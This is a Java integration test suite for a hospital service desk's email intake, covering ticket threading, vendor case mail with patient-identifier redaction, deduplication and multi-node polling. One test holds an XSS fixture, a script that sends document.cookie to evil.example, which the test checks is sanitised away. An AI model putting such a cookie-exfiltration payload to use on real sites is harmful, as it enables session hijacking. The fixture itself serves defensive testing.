package org.medley.ebonding.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.medley.ebonding.internal.TestDesks.count;
import static org.medley.ebonding.internal.TestDesks.token;

import com.fasterxml.jackson.databind.JsonNode;
import com.icegreen.greenmail.util.GreenMail;
import com.icegreen.greenmail.util.ServerSetup;
import com.icegreen.greenmail.util.ServerSetupTest;
import jakarta.activation.DataHandler;
import jakarta.mail.Message;
import jakarta.mail.Session;
import jakarta.mail.Transport;
import jakarta.mail.internet.InternetAddress;
import jakarta.mail.internet.MimeBodyPart;
import jakarta.mail.internet.MimeMessage;
import jakarta.mail.internet.MimeMultipart;
import jakarta.mail.util.ByteArrayDataSource;
import java.time.Clock;
import java.time.Duration;
import java.util.Arrays;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Optional;
import java.util.Properties;
import java.util.UUID;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicBoolean;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.medley.integrations.api.MailGateway;
import org.medley.testing.Api;
import org.medley.testing.SecondNode;
import org.medley.testing.TestApp;

/**
 * The support mailbox end to end: mail sent over SMTP to GreenMail, read over IMAP by the mailbox
 * route through Camel, handled by a Medley node with mail switched on (its polite answers and
 * notices go back out through GreenMail's SMTP), on the run's MariaDB. Pollers are driven directly
 * (as two nodes would poll) so each test decides when a poll happens.
 */
class MailInTest {

  private static final String MAILBOX = "servicedesk@riverside-health.example";
  private static final String ENDUSER = "enduser@riverside-health.example";
  private static final Duration LEASE = Duration.ofMinutes(2);

  private static GreenMail mail;
  private static SecondNode node;

  @BeforeAll
  static void start() {
    TestApp.server();
    mail =
        new GreenMail(
            new ServerSetup[] {
              ServerSetupTest.SMTP.dynamicPort(), ServerSetupTest.IMAP.dynamicPort()
            });
    mail.start();
    mail.setUser(MAILBOX, "servicedesk", "mailbox-pw");
    Map<String, Object> properties = new HashMap<>(SecondNode.mailingTo(mail.getSmtp().getPort()));
    properties.put("medley.mail.from", MAILBOX);
    node = SecondNode.start(properties);
  }

  @AfterAll
  static void stop() {
    if (node != null) {
      node.close();
    }
    if (mail != null) {
      mail.stop();
    }
  }

  // --- helpers -------------------------------------------------------------------------------

  private static ConnectorDirectory.Connector mailbox(int imapPort, String unknownSenders) {
    String name = "Service desk mailbox " + UUID.randomUUID().toString().substring(0, 8);
    var created =
        Api.postJson(
            "/api/integrations/connectors",
            "{\"kind\":\"EMAIL\",\"name\":\""
                + name
                + "\",\"settings\":{\"protocol\":\"imap\",\"host\":\"127.0.0.1\",\"port\":\""
                + imapPort
                + "\",\"folder\":\"INBOX\",\"unknownSenders\":\""
                + unknownSenders
                + "\"},\"auth\":{\"type\":\"BASIC\",\"username\":\"servicedesk\","
                + "\"password\":\"mailbox-pw\"}}",
            token("admin"));
    assertThat(created.status()).as(created.body()).isEqualTo(201);
    long id = created.json().path("id").asLong();
    return node.context().getBean(ConnectorDirectory.class).find(id).orElseThrow();
  }

  private static MailPoller poller(ConnectorDirectory.Connector mailbox, String name) {
    ConnectorDirectory only =
        new ConnectorDirectory() {
          @Override
          public Optional<Connector> find(long tenantId, long connectorId) {
            return find(connectorId);
          }

          @Override
          public Optional<Connector> find(long connectorId) {
            return Optional.of(mailbox).filter(c -> c.id() == connectorId);
          }

          @Override
          public List<Connector> all() {
            return List.of(mailbox);
          }
        };
    var beans = node.context();
    return new MailPoller(
        only,
        beans.getBean(MailGateway.class),
        beans.getBean(MailIntake.class),
        beans.getBean(PollStates.class),
        Clock.systemUTC(),
        Duration.ZERO,
        LEASE,
        name);
  }

  private static MimeMessage message(String from, String subject) throws Exception {
    Properties properties = new Properties();
    properties.put("mail.smtp.host", "127.0.0.1");
    properties.put("mail.smtp.port", String.valueOf(mail.getSmtp().getPort()));
    MimeMessage message =
        new MimeMessage(Session.getInstance(properties)) {
          @Override
          protected void updateMessageID() throws jakarta.mail.MessagingException {
            if (getHeader("Message-ID") == null) {
              setHeader("Message-ID", "<" + UUID.randomUUID() + "@phone.example>");
            }
          }
        };
    message.setFrom(new InternetAddress(from));
    message.setRecipient(Message.RecipientType.TO, new InternetAddress(MAILBOX));
    message.setSubject(subject, "UTF-8");
    return message;
  }

  private static String send(MimeMessage message) throws Exception {
    message.saveChanges();
    String id = message.getMessageID();
    Transport.send(message);
    return id.substring(1, id.length() - 1);
  }

  private static long tickets(String title) {
    return count("tickets WHERE title = '" + title.replace("'", "''") + "'");
  }

  private static long ticket(String title) {
    return TestApp.queryLong("SELECT id FROM tickets WHERE title = '" + title + "'");
  }

  private static List<MimeMessage> mailsTo(String address) throws Exception {
    return Arrays.stream(mail.getReceivedMessages())
        .filter(
            m -> {
              try {
                return Arrays.stream(m.getAllRecipients())
                    .anyMatch(a -> a.toString().equalsIgnoreCase(address));
              } catch (Exception e) {
                return false;
              }
            })
        .toList();
  }

  private static String unique(String title) {
    return title + " " + UUID.randomUUID().toString().substring(0, 6);
  }

  @Test
  void aMailboxConnectorIsCheckedFieldByField() {
    var refused =
        Api.postJson(
            "/api/integrations/connectors",
            "{\"kind\":\"EMAIL\",\"name\":\"Bad mailbox\",\"baseUrl\":\"http://x.example\","
                + "\"settings\":{\"protocol\":\"smtp\",\"port\":\"99999\","
                + "\"unknownSenders\":\"MAYBE\",\"supportGroupId\":\"abc\"},"
                + "\"auth\":{\"type\":\"TOKEN\",\"token\":\"t\"}}",
            token("admin"));
    org.medley.testing.ProblemAssert.assertProblem(refused, 400);
    assertThat(refused.body())
        .contains(
            "baseUrl",
            "auth.type",
            "settings.protocol",
            "settings.host",
            "settings.port",
            "settings.unknownSenders",
            "settings.supportGroupId");
    var empty =
        Api.postJson(
            "/api/integrations/connectors",
            "{\"kind\":\"EMAIL\",\"name\":\"Empty mailbox\",\"auth\":{\"type\":\"BASIC\","
                + "\"username\":\"u\",\"password\":\"p\"}}",
            token("admin"));
    org.medley.testing.ProblemAssert.assertProblem(empty, 400);
    assertThat(empty.body()).contains("settings.protocol", "settings.host");
  }

  // --- mail in --------------------------------------------------------------------------------

  @Test
  void aNewMailFromAKnownRequesterOpensATicketAndTheReplyThreadsBack() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    MailPoller poller = poller(mailbox, "node-a");
    String title = unique("Label printer on 3 North jams");
    MimeMessage first = message(ENDUSER, title);
    first.setText("Every label comes out crooked since this morning.\n\n-- \nPat, RN");
    String firstId = send(first);

    assertThat(poller.poll(mailbox)).isTrue();

    assertThat(tickets(title)).isEqualTo(1);
    long ticket = ticket(title);
    JsonNode read = TestDesks.ticket(ticket);
    assertThat(read.path("description").asText())
        .isEqualTo("Every label comes out crooked since this morning.");
    assertThat(read.path("requesterId").asLong())
        .isEqualTo(TestApp.queryLong("SELECT id FROM user_accounts WHERE username = 'enduser'"));
    String number = read.path("number").asText();

    // The desk answers in public: the notice threads under the requester's own mail.
    // (on the node with mail switched on, whose outbox sends the notice)
    node.send(
        "POST",
        "/api/tickets/" + ticket + "/comments",
        "{\"body\":\"Which printer model is it?\",\"visibility\":\"PUBLIC\"}",
        node.login("agent"));
    await().atMost(Duration.ofSeconds(20)).until(() -> !notices(number).isEmpty());
    MimeMessage notice = notices(number).get(0);
    assertThat(notice.getSubject()).contains("[" + number + "]");
    assertThat(notice.getHeader("References", " ")).contains("<" + firstId + ">");
    String noticeId = notice.getMessageID();
    assertThat(notice.getHeader("In-Reply-To", null)).isNotBlank();

    // The requester answers the notice from her phone: the answer is a public comment.
    MimeMessage reply = message(ENDUSER, "Re: " + notice.getSubject());
    reply.setHeader("In-Reply-To", noticeId);
    reply.setHeader("References", "<" + firstId + "> " + noticeId);
    reply.setText(
        "It is a Zebra ZD421.\n\nOn Tue, Dec 1, 2026 at 9:12 AM IT Service Desk <"
            + MAILBOX
            + "> wrote:\n> Which printer model is it?\n");
    send(reply);
    assertThat(poller.poll(mailbox)).isTrue();

    assertThat(publicComments(ticket)).contains("It is a Zebra ZD421.");
    assertThat(tickets(title)).isEqualTo(1);
  }

  private static List<MimeMessage> notices(String number) throws Exception {
    return mailsAbout(ENDUSER, number);
  }

  private static List<String> publicComments(long ticket) {
    return TestDesks.comments(ticket, "PUBLIC");
  }

  // --- vendor escalation by mail ---------------------------------------------------------------

  private static final String EPIC = "support@epic.example";

  @Test
  void aVendorCaseGoesOutByMailAndTheVendorsAnswerComesBackOnItsCase() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    MailPoller poller = poller(mailbox, "node-a");
    String title = unique("Clarity extract fails overnight");
    long epic = TestApp.queryLong("SELECT id FROM organizations WHERE name = 'Epic Systems'");
    long ticket =
        Api.postJson(
                "/api/tickets",
                "{\"type\":\"INCIDENT\",\"title\":\""
                    + title
                    + "\",\"description\":\"Patient Jane Roe, MRN 00123456, misses from the"
                    + " extract. Error CLR-4410 since the 2026-12-01 upgrade.\",\"applicationId\":"
                    + TestApp.queryLong(
                        "SELECT MIN(id) FROM applications WHERE vendor_id = " + epic)
                    + ",\"impact\":2,\"urgency\":2}",
                token("enduser"))
            .json()
            .path("id")
            .asLong();
    String number = TestDesks.ticket(ticket).path("number").asText();

    // The agent reads the drafted case: the vendor has no agreement, so the MRN is gone.
    var draft = Api.get("/api/tickets/" + ticket + "/vendor-case-draft", token("agent"));
    assertThat(draft.status()).as(draft.body()).isEqualTo(200);
    assertThat(draft.json().path("to").asText()).isEqualTo(EPIC);
    assertThat(draft.json().path("subject").asText()).contains("[" + number + "]");
    assertThat(draft.json().path("body").asText())
        .doesNotContain("00123456")
        .contains("CLR-4410", "2026-12-01");
    assertThat(draft.json().path("removed").path("MRN").asInt()).isEqualTo(1);

    // She adds a line with another identifier and sends it: the filter holds on what she typed.
    var sent =
        Api.postJson(
            "/api/tickets/" + ticket + "/vendor-cases",
            "{\"vendorId\":"
                + epic
                + ",\"subject\":"
                + json(draft.json().path("subject").asText())
                + ",\"body\":"
                + json(draft.json().path("body").asText() + "\nCall back on 555-867-5309.")
                + ",\"version\":"
                + TestDesks.ticket(ticket).path("version")
                + "}",
            token("agent"));
    assertThat(sent.status()).as(sent.body()).isEqualTo(201);
    long caseId = sent.json().path("id").asLong();
    JsonNode waiting = TestDesks.ticket(ticket);
    assertThat(waiting.path("status").asText()).isEqualTo("PENDING");
    assertThat(waiting.path("pendingReason").asText()).isEqualTo("VENDOR");
    assertThat(waiting.path("tier").asText()).isEqualTo("VENDOR");

    // The node with mail on sends it, threaded, written by a person (no Auto-Submitted).
    await().atMost(Duration.ofSeconds(20)).until(() -> !mailsAbout(EPIC, number).isEmpty());
    MimeMessage caseMail = mailsAbout(EPIC, number).get(0);
    String caseText = caseMail.getContent().toString();
    assertThat(caseText).doesNotContain("00123456", "867-5309").contains("CLR-4410");
    assertThat(caseMail.getHeader("Auto-Submitted")).isNull();
    await()
        .atMost(Duration.ofSeconds(10))
        .until(() -> "SENT".equals(vendorCase(caseId).path("delivery").asText()));

    // Epic's desk acknowledges automatically, naming its case number: the number is recorded
    // (an automatic mail is never answered, so nothing loops).
    MimeMessage ack = message(EPIC, "Case SLG 4471234 created: " + caseMail.getSubject());
    ack.setHeader("In-Reply-To", caseMail.getMessageID());
    ack.setHeader("Auto-Submitted", "auto-replied");
    ack.setText("Thank you. Your case SLG 4471234 was created.");
    send(ack);
    assertThat(poller.poll(mailbox)).isTrue();
    assertThat(vendorCase(caseId).path("caseNumber").asText()).isEqualTo("4471234");
    assertThat(mailsTo(EPIC)).hasSize(1);

    // Epic's engineer answers the case mail: an INTERNAL comment on the ticket.
    MimeMessage answer = message(EPIC, "RE: " + caseMail.getSubject() + " - SLG 4471234");
    answer.setHeader("In-Reply-To", caseMail.getMessageID());
    answer.setText("We logged SLG 4471234. Please send the job log of last night.");
    String answerId = send(answer);
    assertThat(poller.poll(mailbox)).isTrue();

    JsonNode afterAnswer = vendorCase(caseId);
    assertThat(afterAnswer.path("caseNumber").asText()).isEqualTo("4471234");
    assertThat(afterAnswer.path("lastReplyAt").isNull()).isFalse();
    assertThat(internalComments(ticket))
        .anySatisfy(c -> assertThat(c).contains("We logged SLG 4471234", "Epic Systems"));
    assertThat(
            Api.get("/api/tickets?externalRef=EPIC-SYSTEMS:4471234", token("agent"))
                .json()
                .path("items")
                .get(0)
                .path("id")
                .asLong())
        .isEqualTo(ticket);
    assertThat(TestDesks.ticket(ticket).path("status").asText()).isEqualTo("PENDING");

    // The same answer again (another copy of the mail) changes nothing.
    MimeMessage again = message(EPIC, answer.getSubject());
    again.setHeader("Message-ID", "<" + answerId + ">");
    again.setText("We logged SLG 4471234. Please send the job log of last night.");
    send(again);
    poller.poll(mailbox);
    assertThat(internalComments(ticket).stream().filter(c -> c.contains("job log of last night")))
        .hasSize(1);

    // A follow-up from another Epic address naming only the ticket token finds the case too.
    MimeMessage followUp = message("jane.doe@epic.example", "[" + number + "] job log received");
    followUp.setText("Thanks, the fix ships in the next package.");
    send(followUp);
    poller.poll(mailbox);
    assertThat(internalComments(ticket))
        .anySatisfy(c -> assertThat(c).contains("the fix ships in the next package"));
    assertThat(publicComments(ticket)).noneMatch(c -> c.contains("fix ships"));

    // The agent resumes the ticket and closes the case.
    var resumed =
        Api.postJson(
            "/api/tickets/" + ticket + "/transitions",
            "{\"to\":\"IN_PROGRESS\",\"version\":" + TestDesks.ticket(ticket).path("version") + "}",
            token("agent"));
    assertThat(resumed.status()).as(resumed.body()).isEqualTo(200);
    assertThat(TestDesks.ticket(ticket).path("status").asText()).isEqualTo("IN_PROGRESS");
    var closed =
        Api.postJson(
            "/api/vendor-cases/" + caseId + "/close",
            "{\"note\":\"Fixed by Epic's package.\",\"version\":"
                + vendorCase(caseId).path("version")
                + "}",
            token("agent"));
    assertThat(closed.status()).as(closed.body()).isEqualTo(200);
    assertThat(closed.json().path("status").asText()).isEqualTo("CLOSED");
  }

  private static JsonNode vendorCase(long id) {
    return Api.get("/api/vendor-cases/" + id, token("agent")).json();
  }

  private static List<MimeMessage> mailsAbout(String to, String number) throws Exception {
    return mailsTo(to).stream()
        .filter(
            m -> {
              try {
                return m.getSubject().contains(number);
              } catch (Exception e) {
                return false;
              }
            })
        .toList();
  }

  private static List<String> internalComments(long ticket) {
    return TestDesks.comments(ticket, "INTERNAL");
  }

  private static String json(String text) throws Exception {
    return new com.fasterxml.jackson.databind.ObjectMapper().writeValueAsString(text);
  }

  @Test
  void aReplyFindsItsTicketByNumberTokenButNeverBySubjectTextAlone() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    MailPoller poller = poller(mailbox, "node-a");
    String title = unique("Badge reader at the ED entrance");
    MimeMessage first = message(ENDUSER, title);
    first.setText("It does not react to any badge.");
    send(first);
    poller.poll(mailbox);
    long ticket = ticket(title);
    String number = TestDesks.ticket(ticket).path("number").asText();

    MimeMessage byToken = message(ENDUSER, "Re: [" + number + "] about the badge reader");
    byToken.setText("Security says it lost power.");
    send(byToken);
    MimeMessage bySubjectOnly = message(ENDUSER, "Re: " + title);
    bySubjectOnly.setText("Same problem at the west entrance.");
    send(bySubjectOnly);
    poller.poll(mailbox);

    assertThat(publicComments(ticket))
        .contains("Security says it lost power.")
        .doesNotContain("Same problem at the west entrance.");
    assertThat(tickets(title)).as("the subject-only mail opened a ticket of its own").isEqualTo(2);
  }

  @Test
  void theSameMailReadTwiceIsHandledOnce() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    MailPoller poller = poller(mailbox, "node-a");
    String title = unique("Monitor flickers in room 12");
    MimeMessage message = message(ENDUSER, title);
    message.setText("The monitor flickers.");
    message.saveChanges();
    send(message);
    poller.poll(mailbox);
    // The same mail again (a resend, or a copy the server delivers twice): same Message-ID.
    Transport.send(message);
    poller.poll(mailbox);

    assertThat(tickets(title)).isEqualTo(1);
  }

  @Test
  void autoRepliesAndMedleysOwnMailAreIgnored() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "GUEST");
    MailPoller poller = poller(mailbox, "node-a");
    String title = unique("Out of office");
    MimeMessage outOfOffice = message(ENDUSER, "Automatic reply: " + title);
    outOfOffice.setHeader("Auto-Submitted", "auto-replied");
    outOfOffice.setText("I am away until Monday.");
    send(outOfOffice);
    MimeMessage bulk = message("news@vendor.example", title + " newsletter");
    bulk.setHeader("Precedence", "bulk");
    bulk.setText("News.");
    send(bulk);
    MimeMessage own = message(MAILBOX, title + " loop");
    own.setText("A notice that came back.");
    send(own);
    int before = mail.getReceivedMessages().length;

    poller.poll(mailbox);

    assertThat(count("tickets WHERE title LIKE '%" + title + "%'")).isZero();
    assertThat(mail.getReceivedMessages()).as("no answer to a machine").hasSize(before);
  }

  @Test
  void anHtmlMailWithAScriptBecomesSafeText() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    String title = unique("Epic login fails");
    MimeMessage message = message(ENDUSER, title);
    message.setContent(
        "<html><body><p>I cannot log in to <b>Epic</b>.</p>"
            + "<script>fetch('https://evil.example/?'+document.cookie)</script>"
            + "<p onmouseover=\"alert(1)\">Error ERR-401</p></body></html>",
        "text/html; charset=UTF-8");
    send(message);

    poller(mailbox, "node-a").poll(mailbox);

    String description = TestDesks.ticket(ticket(title)).path("description").asText();
    assertThat(description).isEqualTo("I cannot log in to Epic.\nError ERR-401");
  }

  @Test
  void aThirtyMegabyteAttachmentIsRefusedWithAPoliteReply() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    String title = unique("Scan of the wristband printer");
    MimeMessage message = message(ENDUSER, title);
    MimeBodyPart text = new MimeBodyPart();
    text.setText("Here is the scan.");
    MimeBodyPart file = new MimeBodyPart();
    byte[] big = new byte[30 * 1024 * 1024];
    big[0] = '%';
    big[1] = 'P';
    big[2] = 'D';
    big[3] = 'F';
    file.setDataHandler(new DataHandler(new ByteArrayDataSource(big, "application/pdf")));
    file.setFileName("scan.pdf");
    MimeMultipart mixed = new MimeMultipart();
    mixed.addBodyPart(text);
    mixed.addBodyPart(file);
    message.setContent(mixed);
    String id = send(message);

    poller(mailbox, "node-a").poll(mailbox);

    assertThat(tickets(title)).isZero();
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> mailsTo(ENDUSER).stream().anyMatch(m -> answers(m, id)));
    MimeMessage reply =
        mailsTo(ENDUSER).stream().filter(m -> answers(m, id)).findFirst().orElseThrow();
    assertThat(reply.getSubject()).isEqualTo("Re: " + title);
    assertThat(reply.getHeader("Auto-Submitted", null)).startsWith("auto-");
    assertThat(((String) reply.getContent())).contains("scan.pdf", "10 MB");
  }

  private static boolean answers(MimeMessage message, String id) {
    try {
      String inReplyTo = message.getHeader("In-Reply-To", null);
      return inReplyTo != null && inReplyTo.contains(id);
    } catch (Exception e) {
      return false;
    }
  }

  @Test
  void unknownSendersAreRefusedPolitelyOrOpenAsGuests() throws Exception {
    String stranger = "visitor-" + UUID.randomUUID().toString().substring(0, 6) + "@gmail.example";
    var refusing = mailbox(mail.getImap().getPort(), "REFUSE");
    String title = unique("Guest wifi does not work");
    MimeMessage first = message(stranger, title);
    first.setText("I cannot get on the guest wifi.");
    String id = send(first);
    poller(refusing, "node-a").poll(refusing);
    assertThat(tickets(title)).isZero();
    await()
        .atMost(Duration.ofSeconds(20))
        .until(() -> mailsTo(stranger).stream().anyMatch(m -> answers(m, id)));

    // The same hospital switches its mailbox to guests: a new mail of theirs opens a ticket.
    var welcoming = mailbox(mail.getImap().getPort(), "GUEST");
    MimeMessage second = message(stranger, title);
    second.setText("Still no wifi.");
    send(second);
    poller(welcoming, "node-a").poll(welcoming);
    assertThat(tickets(title)).isEqualTo(1);
    assertThat(
            TestApp.queryString(
                "SELECT a.email FROM tickets t JOIN user_accounts a ON a.id = t.requester_id"
                    + " WHERE t.title = '"
                    + title
                    + "'"))
        .isEqualTo(stranger.toLowerCase(Locale.ROOT));
  }

  @Test
  void twoNodesPollingOneMailboxHandleEachMailOnce() throws Exception {
    var mailbox = mailbox(mail.getImap().getPort(), "REFUSE");
    MailPoller a = poller(mailbox, "node-a");
    MailPoller b = poller(mailbox, "node-b");
    String prefix = unique("Two nodes");
    int total = 20;
    AtomicBoolean done = new AtomicBoolean();
    ExecutorService pool = Executors.newFixedThreadPool(2);
    try {
      List<Future<?>> nodes =
          List.of(
              pool.submit(() -> pollUntil(a, mailbox, done)),
              pool.submit(() -> pollUntil(b, mailbox, done)));
      for (int i = 0; i < total; i++) {
        MimeMessage message = message(ENDUSER, prefix + " #" + i);
        message.setText("Mail " + i);
        send(message);
      }
      await()
          .atMost(Duration.ofSeconds(90))
          .until(() -> count("tickets WHERE title LIKE '" + prefix + " #%'") >= total);
      done.set(true);
      for (Future<?> f : nodes) {
        f.get();
      }
    } finally {
      done.set(true);
      pool.shutdownNow();
    }
    assertThat(count("tickets WHERE title LIKE '" + prefix + " #%'")).isEqualTo(total);
  }

  private static void pollUntil(
      MailPoller poller, ConnectorDirectory.Connector mailbox, AtomicBoolean done) {
    while (!done.get()) {
      poller.poll(mailbox);
    }
  }

  @Test
  void aMailboxThatIsDownShowsInItsHealthAndRecovers() throws Exception {
    GreenMail own = new GreenMail(ServerSetupTest.IMAP.dynamicPort());
    own.start();
    own.setUser(MAILBOX, "servicedesk", "mailbox-pw");
    int port = own.getImap().getPort();
    var mailbox = mailbox(port, "REFUSE");
    MailPoller poller = poller(mailbox, "node-a");
    var test =
        Api.postJson(
            "/api/integrations/connectors/" + mailbox.id() + "/test", "{}", token("admin"));
    assertThat(test.json().path("ok").asBoolean()).as(test.body()).isTrue();
    own.stop();

    poller.poll(mailbox);

    JsonNode down = status(mailbox);
    assertThat(down.path("health").asText()).isEqualTo("FAILING");
    assertThat(down.path("lastError").asText()).contains(mailbox.connection().name());
    var failedTest =
        Api.postJson(
            "/api/integrations/connectors/" + mailbox.id() + "/test", "{}", token("admin"));
    assertThat(failedTest.json().path("ok").asBoolean()).isFalse();

    GreenMail back = new GreenMail(new ServerSetup(port, "127.0.0.1", "imap"));
    back.start();
    try {
      back.setUser(MAILBOX, "servicedesk", "mailbox-pw");
      poller.poll(mailbox);
      JsonNode up = status(mailbox);
      assertThat(up.path("health").asText()).isEqualTo("OK");
      assertThat(up.path("lastError").isNull() || up.path("lastError").isMissingNode()).isTrue();
    } finally {
      back.stop();
    }
  }

  private static JsonNode status(ConnectorDirectory.Connector mailbox) {
    var status =
        Api.get("/api/integrations/connectors/" + mailbox.id() + "/status", token("admin"));
    assertThat(status.status()).as(status.body()).isEqualTo(200);
    return status.json();
  }
}
